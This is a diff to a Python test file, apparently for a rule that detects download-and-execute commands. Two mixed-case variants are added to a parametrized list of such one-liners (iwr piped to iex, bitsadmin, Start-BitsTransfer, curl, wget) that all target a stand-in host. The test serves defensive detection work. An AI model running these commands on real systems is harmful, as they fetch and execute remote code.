@@ -551,6 +551,8 @@ def test_a_download_piped_into_a_shell_is_found_beside_an_or():
         "iwr https://e.example/a.ps1 | iex",
         "bitsadmin /transfer j https://e.example/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe",
         "Start-BitsTransfer https://e.example/a.exe a.exe; ./a.exe",
+        "CURL -s https://e.example/a.ps1 | iex",
+        "Wget https://e.example/a.exe -O a.exe; start /b a.exe",
     ],
 )
 def test_every_download_tool_the_rule_knows_is_looked_for(command: str):
